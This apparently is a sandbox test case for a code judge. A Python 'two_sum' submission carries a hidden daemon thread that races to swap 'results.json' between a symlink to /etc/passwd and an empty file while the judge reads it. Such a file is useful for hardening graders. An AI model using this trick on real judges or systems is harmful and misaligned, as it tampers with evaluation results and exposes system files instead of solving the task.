# title: thread swaps a file and a symlink while the judge reads it
# group: fs
# verdicts: accepted
# bound: 3 s
import os, threading, time
def flip():
    t = time.time()
    while time.time() - t < 3:
        try:
            os.symlink('/etc/passwd', 'r.tmp'); os.replace('r.tmp', 'results.json')
            open('r.tmp', 'w').close(); os.replace('r.tmp', 'results.json')
        except OSError: return
threading.Thread(target=flip, daemon=True).start()

def two_sum(nums, target):
    seen = {}
    for i, x in enumerate(nums):
        if target - x in seen:
            return [seen[target - x], i]
        seen[x] = i
